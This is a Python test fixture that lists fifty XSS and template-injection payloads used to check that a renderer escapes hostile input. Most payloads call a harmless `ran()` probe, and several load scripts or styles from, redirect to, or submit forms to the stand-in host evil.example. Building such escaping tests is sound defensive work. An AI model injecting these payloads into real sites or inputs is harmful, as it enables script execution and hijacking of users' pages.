"""Fifty strings that would run a script, load something or leave their place, if not escaped.

Each tries to call `ran()`; the test gives every page a `ran` that tells of it.
"""

from __future__ import annotations

_SCRIPTS = (
    "<script>ran()</script>",
    "</td></tr></table><script>ran()</script>",
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "</code></pre><script>ran()</script>",
    "</svg><script>ran()</script>",
    "--><script>ran()</script>",
    "]]><script>ran()</script>",
    "<scr<script>ipt>ran()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=data:,ran()></script>",
    "<script/type=text/javascript>ran()</script>",
    "%3Cscript%3Eran()%3C/script%3E",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
)
_HANDLERS = (
    "<img src=x onerror=ran()>",
    "<img src=x onerror=ran()//",
    "<svg onload=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><script>ran()</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<body onload=ran()>",
    "<details open ontoggle=ran()>",
    "<input autofocus onfocus=ran()>",
    "<video><source onerror=ran()>",
    "<marquee onstart=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'>",
    "<object data=javascript:ran()>",
    "<embed src=javascript:ran()>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button id=x>",
    "<a href=javascript:ran() autofocus tabindex=1 onfocus=ran()>x",
    "<template><script>ran()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
)
_ATTRIBUTES = (
    '" onmouseover="ran()" autofocus onfocus="ran()',
    "' onmouseover='ran()' autofocus onfocus='ran()",
    '"><img src=x onerror=ran()>',
    "'><img src=x onerror=ran()>",
    "` onfocus=ran() autofocus `",
    "javascript:ran()",
    "data:text/html,<script>ran()</script>",
    "{{ ran() }}${ran()}{% print(ran()) %}",
    "{{7*7}}<%= ran() %>#{ran()}",
    "'-ran()-'",
    "\\';ran();//",
)
HOSTILE = (*_SCRIPTS, *_HANDLERS, *_ATTRIBUTES)
